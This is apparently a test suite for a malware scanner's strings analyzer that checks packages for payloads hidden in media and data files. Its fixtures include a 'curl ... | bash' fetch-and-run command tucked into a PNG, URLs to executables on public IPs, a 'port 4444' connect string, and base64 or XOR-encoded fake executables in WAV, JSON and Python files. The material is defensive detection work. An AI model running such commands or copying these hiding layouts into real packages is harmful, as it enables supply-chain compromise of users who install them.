import { stringsAnalyzer } from '../../src/analyzers/strings.js';
import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
import {
  DROPPER_PY,
  b64,
  bytes,
  concat,
  fakeELF,
  fakePE,
  fakePNG,
  fakeZip,
  hex,
  prng,
  sine,
  telnyx,
  utf8,
  wav,
  wrap,
  xor,
  zlibbed,
} from '../helpers/payloads.js';

const run = (path: string, data: Uint8Array) => runAnalyzer(stringsAnalyzer, path, data);

function be32(n: number): Uint8Array {
  return new Uint8Array([(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);
}

/** A PNG chunk (CRC left zero: the analyzer does not need it). */
function pngChunk(type: string, body: Uint8Array | string): Uint8Array {
  const b = typeof body === 'string' ? bytes(body) : body;
  return concat(be32(b.length), type, b, new Uint8Array(4));
}

/** A JPEG with an XMP APP1 segment, a COM segment and some scan data. */
function jpegWithXmp(): Uint8Array {
  const xmp =
    'http://ns.adobe.com/xap/1.0/\0<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>' +
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
    '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmpRights="http://ns.adobe.com/xap/1.0/rights/"' +
    ' xmpRights:WebStatement="http://www.example-photographer.com/licence.html">' +
    '<dc:rights>Copyright 2020 Some Photographer, see https://example-photographer.com</dc:rights>' +
    '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>';
  const app1 = bytes(xmp);
  const com = bytes('Created with GIMP, https://www.gimp.org/ 1.2.3.4');
  const seg = (m: number, b: Uint8Array) => concat(new Uint8Array([0xff, m, (b.length + 2) >> 8, (b.length + 2) & 255]), b);
  return concat(new Uint8Array([0xff, 0xd8]), seg(0xe1, app1), seg(0xfe, com), new Uint8Array([0xff, 0xda, 0, 2]), prng(2000, 4), new Uint8Array([0xff, 0xd9]));
}

/** An MP3: an ID3v2.3 tag with WXXX and COMM frames, then MPEG frame data. */
function mp3WithId3(): Uint8Array {
  const frame = (id: string, body: string) => concat(id, be32(body.length), '\0\0', body);
  const frames = concat(frame('WXXX', '\0\0http://www.example-band.com/tour'), frame('COMM', '\0eng\0Recorded at 10.1.2.3, visit https://example-band.com'), frame('TSSE', '\0LAME 3.100'));
  const n = frames.length;
  const size = new Uint8Array([(n >> 21) & 127, (n >> 14) & 127, (n >> 7) & 127, n & 127]);
  const mpeg = new Uint8Array(4000);
  for (let i = 0; i < mpeg.length; i += 418) mpeg.set([0xff, 0xfb, 0x90, 0x64], i);
  return concat('ID3\x03\x00\x00', size, frames, mpeg);
}

describe('strings analyzer: payloads', () => {
  test('a WAV whose samples are base64 of the telnyx layout (key + XOR-ed PE)', async () => {
    const r = await run('pkg/data/ring.wav', wav(bytes(b64(telnyx(fakePE(6000))))));
    expect(ruleIds(r)).toContain('payload.encoded-executable');
    expect(scoreOf(r, 'payload.encoded-executable')).toBe(9);
    const f = r.findings.find((x) => x.rule === 'payload.encoded-executable')!;
    expect(f.offset).toBe(44);
    expect(f.evidence).toMatchObject({ kind: 'executable', format: 'pe', layers: ['base64', 'xor-keyprefix:4b1f9a03e25c71d8'] });
    expect(String(f.evidence?.preview)).not.toContain('MZ');
  });

  test('a Python file with base64 of zlib of a dropper', async () => {
    const src = `import base64, zlib\nblob = "${b64(zlibbed(utf8(DROPPER_PY)))}"\n`;
    const r = await run('pkg/_util.py', utf8(src));
    expect(ruleIds(r)).toEqual(['payload.encoded-code']);
    expect(scoreOf(r, 'payload.encoded-code')).toBe(8);
    expect(String(r.findings[0].evidence?.preview)).toContain('hxxp://203[.]0[.]113[.]7');
  });

  test('a text file that is one base64 blob of an ELF, and hex of a PE in JSON', async () => {
    expect(ruleIds(await run('pkg/data/blob.txt', bytes(wrap(b64(fakeELF(3000))))))).toEqual(['payload.encoded-executable']);
    expect(ruleIds(await run('pkg/data/cfg.json', bytes(`{"k": "${hex(fakePE(1024))}"}`)))).toEqual(['payload.encoded-executable']);
  });

  test('a data file that is an XOR-ed executable', async () => {
    const r = await run('pkg/data/model.bin', xor(fakePE(8192), bytes('s3cr3tK3y')));
    expect(ruleIds(r)).toEqual(['payload.encoded-executable']);
  });

  test('ordinary base64 in code and text is not reported (icons, hashes, test vectors)', async () => {
    const icon = b64(fakePNG(prng(3000, 2)));
    const py = `ICON = "${icon}"\nKEY = "${b64(prng(64, 3))}"\nDIGEST = "${hex(prng(32, 4))}"\nimport os\n`;
    expect((await run('pkg/icons.py', utf8(py))).findings).toEqual([]);
    const record = Array.from({ length: 50 }, (_, i) => `pkg/m${i}.py,sha256=${Buffer.from(prng(32, i + 1)).toString('base64url').replace(/=+$/, '')},1234`).join('\n');
    expect((await run('pkg-1.0.dist-info/RECORD', utf8(record))).findings).toEqual([]);
    const json = JSON.stringify({ data: b64(prng(50000, 9)), image: icon });
    expect((await run('pkg/fixtures.json', utf8(json))).findings).toEqual([]);
    // a header fragment in a test is not an executable
    expect((await run('pkg/tests/test_elf.py', utf8(`HDR = bytes.fromhex("${hex(fakeELF().subarray(0, 40))}")\n`))).findings).toEqual([]);
  });
});

describe('strings analyzer: encoded blobs in media and data', () => {
  test('a long base64 run of random bytes after the image data of a PNG', async () => {
    const png = concat(fakePNG(), pngChunk('IDAT', prng(500, 1)), pngChunk('IEND', ''), bytes(b64(prng(6000, 7))));
    const r = await run('pkg/img/logo.png', png);
    expect(ruleIds(r)).toEqual(['strings.encoded-blob']);
    expect(scoreOf(r, 'strings.encoded-blob')).toBeGreaterThan(0);
    expect(scoreOf(r, 'strings.encoded-blob')).toBeLessThanOrEqual(2);
  });

  test('a base64 zip inside a WAV scores more than base64 random bytes', async () => {
    const zip = fakeZip('x.py', 'print(1)'.repeat(60));
    const r = await run('pkg/a.wav', wav(concat(sine(2000), bytes(b64(zip)))));
    expect(ruleIds(r)).toEqual(['strings.encoded-blob']);
    expect(r.findings[0].evidence).toMatchObject({ kind: 'archive' });
  });

  test('base64 images in metadata and short runs in samples are not reported', async () => {
    const thumb = b64(fakePNG(prng(4000, 3)));
    const png = concat(fakePNG(), pngChunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta><xmpGImg:image>${thumb}</xmpGImg:image></x:xmpmeta>`), pngChunk('IEND', ''));
    expect((await run('pkg/img/a.png', png)).findings).toEqual([]);
    expect((await run('pkg/a.wav', wav(sine(20000)))).findings).toEqual([]);
  });
});

describe('strings analyzer: URLs, IPs and commands', () => {
  test('a URL to an executable on an IP host, appended to a WAV', async () => {
    const r = await run('pkg/a.wav', wav(sine(1000), bytes('\0\0http://203.0.113.5:8080/payload.exe\0')));
    expect(ruleIds(r)).toEqual(['strings.url']);
    expect(scoreOf(r, 'strings.url')).toBe(2);
    expect(r.findings[0].evidence?.url).toBe('hxxp://203[.]0[.]113[.]5:8080/payload.exe');
  });

  test('a plain URL in image data scores low', async () => {
    const r = await run('pkg/a.png', concat(fakePNG(), pngChunk('IDAT', concat(prng(100, 1), bytes('see https://updates.example.net/check now'), prng(100, 2))), pngChunk('IEND', '')));
    expect(ruleIds(r)).toEqual(['strings.url']);
    expect(scoreOf(r, 'strings.url')).toBe(1);
  });

  test('XMP namespaces, copyright links, JPEG comments, ID3 URL frames and PNG text are not reported', async () => {
    expect((await run('pkg/photo.jpg', jpegWithXmp())).findings).toEqual([]);
    expect((await run('pkg/song.mp3', mp3WithId3())).findings).toEqual([]);
    const png = concat(fakePNG(), pngChunk('tEXt', 'Copyright\0(c) Example Corp, https://example.com/license'), pngChunk('tEXt', 'Software\0www.inkscape.org'), pngChunk('IEND', ''));
    expect((await run('pkg/a.png', png)).findings).toEqual([]);
  });

  test('URLs in code and text, and plain URLs in binary data formats, are not reported', async () => {
    expect((await run('pkg/setup.py', utf8('url = "https://github.com/example/pkg"\nimport os\n'))).findings).toEqual([]);
    expect((await run('pkg/README.txt', utf8('Download from http://198.51.100.1/pkg.exe\n'))).findings).toEqual([]);
    const mo = concat(new Uint8Array([0xde, 0x12, 0x04, 0x95, 0, 0, 0, 0]), prng(64, 1), bytes('\0Report bugs to https://bugs.example.org/\0'));
    expect((await run('pkg/locale/de/LC_MESSAGES/pkg.mo', mo)).findings).toEqual([]);
  });

  test('in binary data, a URL to a public address counts; loopback and private addresses are test fixtures', async () => {
    const data = (url: string) => concat(new Uint8Array([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]), prng(64, 2), bytes(`\0${url}\0`));
    expect(ruleIds(await run('pkg/lib/Dim.class', data('http://203.0.113.9/stage2')))).toEqual(['strings.url']);
    expect((await run('pkg/lib/Dim.class', data('http://127.0.0.1:8080/debug'))).findings).toEqual([]);
    expect((await run('pkg/lib/Dim.class', data('http://10.1.2.3/api'))).findings).toEqual([]);
  });

  test('an IPv4 literal in audio data; not versions, private addresses or metadata', async () => {
    const r = await run('pkg/a.wav', wav(sine(1000), bytes('\0connect to 198.51.100.23 port 4444\0')));
    expect(ruleIds(r)).toEqual(['strings.ip']);
    const neg = await run('pkg/b.wav', wav(sine(1000), bytes('\0Version 1.2.3.4\0\0bind 192.168.1.10 now\0\0')));
    expect(ruleIds(neg)).toEqual([]);
  });

  test('a shell command line hidden in an image', async () => {
    const png = concat(fakePNG(), pngChunk('IDAT', prng(300, 5)), pngChunk('IEND', ''), bytes('curl -s https://cdn.example.net/x.sh | bash\0'));
    const r = await run('pkg/icon.png', png);
    expect(ruleIds(r)).toContain('strings.shell-command');
    expect(scoreOf(r, 'strings.shell-command')).toBe(3);
    expect(ruleIds(await run('pkg/install.sh', utf8('#!/bin/sh\ncurl -s https://cdn.example.net/x.sh | bash\n')))).toEqual([]);
  });
});

describe('strings analyzer: scope and robustness', () => {
  test('does not apply to executables, archives and empty files', async () => {
    const exe = fakePE(4096);
    exe.set(bytes('http://203.0.113.5/a.exe'), 0x300);
    expect((await run('pkg/lib.dll', exe)).findings).toEqual([]);
    expect((await run('pkg/a.zip', fakeZip('a.py', b64(fakePE(600))))).findings).toEqual([]);
    expect((await run('pkg/empty.wav', new Uint8Array(0))).findings).toEqual([]);
  });

  test('malformed media never throws and never marks the file incomplete', async () => {
    const cases: Array<[string, Uint8Array]> = [
      ['a.png', concat(fakePNG(), be32(0xffffffff), 'tEXt')],
      ['a.jpg', bytes('\xff\xd8\xff\xe1\x00\x01')],
      ['a.mp3', bytes('ID3\x04\x00\x00\x7f\x7f\x7f\x7fWXXX')],
      ['a.wav', bytes('RIFF\xff\xff\xff\xffWAVELIST\xff\xff\xff\xffINFO')],
      ['a.flac', bytes('fLaC\x84\xff\xff\xff')],
      ['a.bin', bytes('acsp'.repeat(100) + 'ID3\x03' + '<?xpacket begin')],
    ];
    for (const [name, d] of cases) {
      const r = await run(name, d);
      expect([name, r.incomplete]).toEqual([name, []]);
    }
  });
});
